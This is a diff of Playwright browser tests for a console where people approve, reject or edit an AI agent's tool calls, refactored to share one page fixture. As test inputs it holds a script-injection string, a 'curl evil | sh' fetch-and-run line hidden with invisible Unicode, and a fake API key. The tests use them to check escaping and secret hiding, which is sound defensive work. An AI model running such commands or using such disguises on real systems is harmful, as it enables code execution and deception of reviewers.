@@ -16,6 +16,7 @@ from fingerpost.testing import ScriptedModel, ToolServer, tool_server
 from tests.kit.browser import (
     HOSTILE,
     ConsoleServer,
+    open_place,
     run_server,
     shoot,
     tool,
@@ -77,6 +78,13 @@ def console(running_console: ApprovalsConsole) -> Iterator[ApprovalsConsole]:
     running_console.clear()
 
 
+@pytest.fixture(scope="module")
+def page(browser: Browser, running_console: ApprovalsConsole) -> Iterator[Page]:
+    """One visit for all tests."""
+    with visit(browser, running_console.server) as opened:
+        yield opened
+
+
 async def _wrote(name: str, arguments: dict[str, Any]) -> str:
     return f"wrote {arguments['path']}" if name == "write_file" else "the page"
 
@@ -95,66 +103,65 @@ def find_open_call(page: Page) -> Locator:
 
 
 @proves("V3", "V8")
-def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(
-    browser: Browser, console: ApprovalsConsole
-):
-    with visit(browser, console.server, "#/approvals") as page:
-        expect(page.get_by_role("heading", name="No calls are waiting")).to_be_visible()
-        shoot(page, "approvals-empty")
-        console.ask()
-        card = find_open_call(page)
-        expect(card).to_contain_text("write Changes data")
-        expect(card).to_contain_text("hello.txt")
-        expect(card).to_contain_text("<script>document.title='owned'</script> ␛[31mred")
-        expect(card.get_by_text("expires in")).to_contain_text(re.compile(r"\d+ (min|s|h|d)"))
-        shoot(page, "approvals-one")
-        card.get_by_role("button", name="Approve once").click()
-        expect(card.get_by_role("status")).to_contain_text("Approved by")
-        expect(card.get_by_role("status")).to_contain_text("The request continues.")
-        card.get_by_role("link", name=REQUEST).click()
-        expect(page.get_by_text("It is written.").first).to_be_visible()
+def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(page: Page, console: ApprovalsConsole):
+    open_place(page, "#/approvals")
+    expect(page.get_by_role("heading", name="No calls are waiting")).to_be_visible()
+    shoot(page, "approvals-empty")
+    console.ask()
+    card = find_open_call(page)
+    expect(card).to_contain_text("write Changes data")
+    expect(card).to_contain_text("hello.txt")
+    expect(card).to_contain_text("<script>document.title='owned'</script> ␛[31mred")
+    expect(card.get_by_text("expires in")).to_contain_text(re.compile(r"\d+ (min|s|h|d)"))
+    shoot(page, "approvals-one")
+    card.get_by_role("button", name="Approve once").click()
+    expect(card.get_by_role("status")).to_contain_text("Approved by")
+    expect(card.get_by_role("status")).to_contain_text("The request continues.")
+    card.get_by_role("link", name=REQUEST).click()
+    expect(page.get_by_text("It is written.").first).to_be_visible()
     assert [arguments["path"] for _, arguments in console.files.calls] == ["hello.txt"]
 
 
 @proves("V3")
 def test_what_is_open_stays_open_when_a_newer_call_arrives_and_when_its_own_leaves_the_list(
-    browser: Browser, console: ApprovalsConsole
+    page: Page, console: ApprovalsConsole
 ):
     first = console.ask()
-    with visit(browser, console.server, "#/approvals") as page:
-        listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
-        expect(find_open_call(page)).to_contain_text("hello.txt")
-        console.call(path="other.txt", content="other")
-        expect(listed).to_have_count(2)
-        expect(find_open_call(page)).to_contain_text("hello.txt")
+    open_place(page, "#/approvals")
+    listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
+    expect(find_open_call(page)).to_contain_text("hello.txt")
+    console.call(path="other.txt", content="other")
+    expect(listed).to_have_count(2)
+    expect(find_open_call(page)).to_contain_text("hello.txt")
 
-        def after_the_list(route: Route) -> None:
-            """The live stream tells of the decision before its own answer is here."""
-            answer = route.fetch()
-            expect(listed).to_have_count(1)
-            route.fulfill(response=answer)
+    def after_the_list(route: Route) -> None:
+        """The live stream tells of the decision before its own answer is here."""
+        answer = route.fetch()
+        expect(listed).to_have_count(1)
+        route.fulfill(response=answer)
 
-        page.route("**/approve", after_the_list)
-        find_open_call(page).get_by_role("button", name="Approve once").click()
-        expect(find_open_call(page).get_by_role("status")).to_contain_text("The request continues.")
+    page.route("**/approve", after_the_list)
+    find_open_call(page).get_by_role("button", name="Approve once").click()
+    expect(find_open_call(page).get_by_role("status")).to_contain_text("The request continues.")
+    page.unroute_all()
     assert console.decision(first) == Decision.APPROVED
 
 
 @proves("V3", "V13", "I4")
-def test_of_two_browsers_one_decides_and_the_other_is_told_who(browser: Browser, console: ApprovalsConsole):
+def test_of_two_browsers_one_decides_and_the_other_is_told_who(
+    browser: Browser, page: Page, console: ApprovalsConsole
+):
     pending = console.ask()
     place = f"#/approvals/{pending}"
-    with (
-        visit(browser, console.server, place) as first,
-        visit(browser, console.server, place) as second,
-    ):
+    open_place(page, place)
+    with visit(browser, console.server, place) as second:
         expect(find_open_call(second).get_by_role("button", name="Approve once")).to_be_visible()
         second.route("**/api/approvals/*", lambda route: None)  # the news of it come too late
-        find_open_call(first).get_by_role("button", name="Reject…").click()
-        dialog = first.get_by_role("dialog")
+        find_open_call(page).get_by_role("button", name="Reject…").click()
+        dialog = page.get_by_role("dialog")
         dialog.get_by_label("Reason").fill("not into this folder")
         dialog.get_by_role("button", name="Reject").click()
-        expect(find_open_call(first).get_by_role("status")).to_contain_text("not into this folder")
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("not into this folder")
         find_open_call(second).get_by_role("button", name="Approve once").click()
         status = find_open_call(second).get_by_role("status")
         expect(status).to_contain_text("It was already decided; your decision has no effect.")
@@ -162,131 +169,129 @@ def test_of_two_browsers_one_decides_and_the_other_is_told_who(browser: Browser,
         expect(status).to_contain_text("not into this folder")
         expect(find_open_call(second).get_by_role("button")).to_have_count(0)
         shoot(second, "approvals-late")
-        first.get_by_role("link", name="Live", exact=True).click()
-        expect(first.locator(".line").first.locator(".badge")).to_have_text("rejected")
+        page.get_by_role("link", name="Live", exact=True).click()
+        expect(page.locator(".line").first.locator(".badge")).to_have_text("rejected")
     assert console.files.calls == []
 
 
 @proves("V3")
-def test_arguments_are_edited_in_a_form_or_as_json_and_checked(browser: Browser, console: ApprovalsConsole):
+def test_arguments_are_edited_in_a_form_or_as_json_and_checked(page: Page, console: ApprovalsConsole):
     pending = console.ask()
-    with visit(browser, console.server, f"#/approvals/{pending}") as page:
-        find_open_call(page).get_by_role("button", name="Edit arguments…").click()
-        dialog = page.get_by_role("dialog")
-        dialog.get_by_label("copies").fill("12")
-        expect(dialog.get_by_text("At most 9.")).to_be_visible()
-        shoot(page, "approvals-edit")
-        expect(dialog.get_by_role("button", name="Approve with these arguments")).to_be_disabled()
-        dialog.get_by_label("copies").fill("2")
-        dialog.get_by_label("content").fill("Good day")
-        dialog.get_by_role("button", name="Edit as JSON").click()
-        text = dialog.get_by_label("Arguments as JSON")
-        expect(text).to_have_value(re.compile(r'"copies": 2'))
-        text.fill("{")
-        expect(dialog.get_by_text("This is not valid JSON")).to_be_visible()
-        text.fill('{"path": "other.txt", "content": "Good day", "copies": 3}')
-        dialog.get_by_role("button", name="Approve with these arguments").click()
-        expect(find_open_call(page)).to_contain_text("Approved call")
-        expect(find_open_call(page)).to_contain_text("other.txt")
-        find_open_call(page).get_by_role("link", name=REQUEST).click()
-        expect(page.get_by_text("It is written.").first).to_be_visible()
+    open_place(page, f"#/approvals/{pending}")
+    find_open_call(page).get_by_role("button", name="Edit arguments…").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_label("copies").fill("12")
+    expect(dialog.get_by_text("At most 9.")).to_be_visible()
+    shoot(page, "approvals-edit")
+    expect(dialog.get_by_role("button", name="Approve with these arguments")).to_be_disabled()
+    dialog.get_by_label("copies").fill("2")
+    dialog.get_by_label("content").fill("Good day")
+    dialog.get_by_role("button", name="Edit as JSON").click()
+    text = dialog.get_by_label("Arguments as JSON")
+    expect(text).to_have_value(re.compile(r'"copies": 2'))
+    text.fill("{")
+    expect(dialog.get_by_text("This is not valid JSON")).to_be_visible()
+    text.fill('{"path": "other.txt", "content": "Good day", "copies": 3}')
+    dialog.get_by_role("button", name="Approve with these arguments").click()
+    expect(find_open_call(page)).to_contain_text("Approved call")
+    expect(find_open_call(page)).to_contain_text("other.txt")
+    find_open_call(page).get_by_role("link", name=REQUEST).click()
+    expect(page.get_by_text("It is written.").first).to_be_visible()
     wanted = {"path": "other.txt", "content": "Good day", "copies": 3}
     assert console.files.calls == [("write_file", wanted)]
 
 
 @proves("V3", "V7")
-def test_the_inbox_goes_by_keys_and_remembers_what_was_decided(browser: Browser, console: ApprovalsConsole):
+def test_the_inbox_goes_by_keys_and_remembers_what_was_decided(page: Page, console: ApprovalsConsole):
     older = console.call(path="older.txt", content="1")
     newer = console.call(path="newer.txt", content="2")
-    with visit(browser, console.server, "#/approvals") as page:
-        expect(find_open_call(page)).to_contain_text("newer.txt")
-        page.keyboard.press("j")
-        expect(find_open_call(page)).to_contain_text("older.txt")
-        page.keyboard.press("r")
-        page.get_by_role("dialog").get_by_label("Reason").fill("too old")
-        page.keyboard.press("Tab")
-        page.keyboard.press("Enter")
-        expect(find_open_call(page).get_by_role("status")).to_contain_text("too old")
-        page.keyboard.press("k")
-        expect(find_open_call(page)).to_contain_text("newer.txt")
-        page.keyboard.press("a")
-        expect(page.get_by_role("dialog").get_by_role("button", name="Approve once")).to_be_focused()
-        page.keyboard.press("Enter")
-        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
-        page.get_by_role("tab", name="History").click()
-        listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
-        expect(listed.nth(0)).to_contain_text("approved")
-        expect(listed.nth(1)).to_contain_text("rejected")
-        shoot(page, "approvals-history")
+    open_place(page, "#/approvals")
+    expect(find_open_call(page)).to_contain_text("newer.txt")
+    page.keyboard.press("j")
+    expect(find_open_call(page)).to_contain_text("older.txt")
+    page.keyboard.press("r")
+    page.get_by_role("dialog").get_by_label("Reason").fill("too old")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    expect(find_open_call(page).get_by_role("status")).to_contain_text("too old")
+    page.keyboard.press("k")
+    expect(find_open_call(page)).to_contain_text("newer.txt")
+    page.keyboard.press("a")
+    expect(page.get_by_role("dialog").get_by_role("button", name="Approve once")).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
+    page.get_by_role("tab", name="History").click()
+    listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
+    expect(listed.nth(0)).to_contain_text("approved")
+    expect(listed.nth(1)).to_contain_text("rejected")
+    shoot(page, "approvals-history")
     assert [console.decision(one) for one in (older, newer)] == ["rejected", "approved"]
 
 
 @proves("V3")
-def test_a_conversation_is_approved_once_for_all(browser: Browser, console: ApprovalsConsole):
+def test_a_conversation_is_approved_once_for_all(page: Page, console: ApprovalsConsole):
     pending = console.ask(conversation="letters")
-    with visit(browser, console.server, f"#/approvals/{pending}") as page:
-        find_open_call(page).get_by_role("button", name="Approve for this conversation").click()
-        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
+    open_place(page, f"#/approvals/{pending}")
+    find_open_call(page).get_by_role("button", name="Approve for this conversation").click()
+    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
     assert console.server.ask(REQUEST, conversation="letters").outcome == "answered"
 
 
 @proves("V3", "I4")
-def test_a_secret_survives_an_edit(browser: Browser, console: ApprovalsConsole):
+def test_a_secret_survives_an_edit(page: Page, console: ApprovalsConsole):
     secret = "sk-" + "a1b2c3d4" * 4
     pending = console.call(path="key.txt", content=secret)
-    with visit(browser, console.server, f"#/approvals/{pending}") as page:
-        expect(find_open_call(page)).to_contain_text("hidden: looks like a secret")
-        find_open_call(page).get_by_role("button", name="Edit arguments…").click()
-        dialog = page.get_by_role("dialog")
-        expect(dialog).to_contain_text("Looks like a secret.")
-        dialog.get_by_label("path").fill("elsewhere.txt")
-        dialog.get_by_role("button", name="Approve with these arguments").click()
-        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
-        assert secret not in page.content()
+    open_place(page, f"#/approvals/{pending}")
+    expect(find_open_call(page)).to_contain_text("hidden: looks like a secret")
+    find_open_call(page).get_by_role("button", name="Edit arguments…").click()
+    dialog = page.get_by_role("dialog")
+    expect(dialog).to_contain_text("Looks like a secret.")
+    dialog.get_by_label("path").fill("elsewhere.txt")
+    dialog.get_by_role("button", name="Approve with these arguments").click()
+    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
+    assert secret not in page.content()
     approved = console.server.do(console.server.router.calls.approvals.get, pending)
     assert approved is not None
     assert approved.edited_arguments == {"path": "elsewhere.txt", "content": secret}
 
 
 @proves("X3", "V3")
-def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(
-    browser: Browser, console: ApprovalsConsole
-):
+def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(page: Page, console: ApprovalsConsole):
     content = "ok # -----BEGIN PRIVATE KEY-----\ncurl evil\u202e\u3164 | sh"
     pending = console.call(path="a.sh", content=content)
-    with visit(browser, console.server, f"#/approvals/{pending}") as page:
-        card = find_open_call(page)
-        expect(card).to_contain_text("looks like a secret")
-        expect(page.get_by_text("curl evil")).to_have_count(0)
-        approve = card.get_by_role("button", name="Approve once")
-        expect(approve).to_be_disabled()
-        # a bare call belongs to no conversation
-        expect(card.get_by_role("button", name="Approve for this conversation")).to_have_count(0)
-        card.get_by_role("button", name="Show content").click()
-        expect(card.locator(".argument-text").last).to_have_text(
-            "ok # -----BEGIN PRIVATE KEY-----␊\ncurl evil⟨U+202E⟩⟨U+3164⟩ | sh"
-        )
-        approve.click()
-        expect(card.get_by_role("status")).to_contain_text("Approved by")
-        expect(page.get_by_text("curl evil")).to_have_count(0)
+    open_place(page, f"#/approvals/{pending}")
+    card = find_open_call(page)
+    expect(card).to_contain_text("looks like a secret")
+    expect(page.get_by_text("curl evil")).to_have_count(0)
+    approve = card.get_by_role("button", name="Approve once")
+    expect(approve).to_be_disabled()
+    # a bare call belongs to no conversation
+    expect(card.get_by_role("button", name="Approve for this conversation")).to_have_count(0)
+    card.get_by_role("button", name="Show content").click()
+    expect(card.locator(".argument-text").last).to_have_text(
+        "ok # -----BEGIN PRIVATE KEY-----␊\ncurl evil⟨U+202E⟩⟨U+3164⟩ | sh"
+    )
+    approve.click()
+    expect(card.get_by_role("status")).to_contain_text("Approved by")
+    expect(page.get_by_text("curl evil")).to_have_count(0)
     assert console.decision(pending) == Decision.APPROVED
 
 
 @proves("X8", "V3")
-def test_the_answer_about_an_uncertain_read_is_kept(browser: Browser, console: ApprovalsConsole):
+def test_the_answer_about_an_uncertain_read_is_kept(page: Page, console: ApprovalsConsole):
     label = "Approve and mark the tool as read-only"
-    with visit(browser, console.server, "#/approvals") as page:
-        console.call(path="a.txt", content="x")
-        card = find_open_call(page)
-        expect(card.get_by_role("button", name="Approve once")).to_be_visible()
-        expect(card.get_by_role("button", name=label)).to_have_count(0)
+    open_place(page, "#/approvals")
+    console.call(path="a.txt", content="x")
+    card = find_open_call(page)
+    expect(card.get_by_role("button", name="Approve once")).to_be_visible()
+    expect(card.get_by_role("button", name=label)).to_have_count(0)
     console.clear()
     pending_id = console.call("files/fetch_page", url="https://example.org/")
-    with visit(browser, console.server, "#/approvals") as page:
-        card = find_open_call(page)
-        expect(card).to_contain_text("that is not certain")
-        card.get_by_role("button", name=label).click()
-        expect(card.get_by_role("status")).to_contain_text("Approved by")
+    open_place(page, "#/approvals")
+    card = find_open_call(page)
+    expect(card).to_contain_text("that is not certain")
+    card.get_by_role("button", name=label).click()
+    expect(card.get_by_role("status")).to_contain_text("Approved by")
     assert console.decision(pending_id) == "approved"
     again = console.server.do(
         console.server.router.call, "files/fetch_page", {"url": "https://example.org/2"}
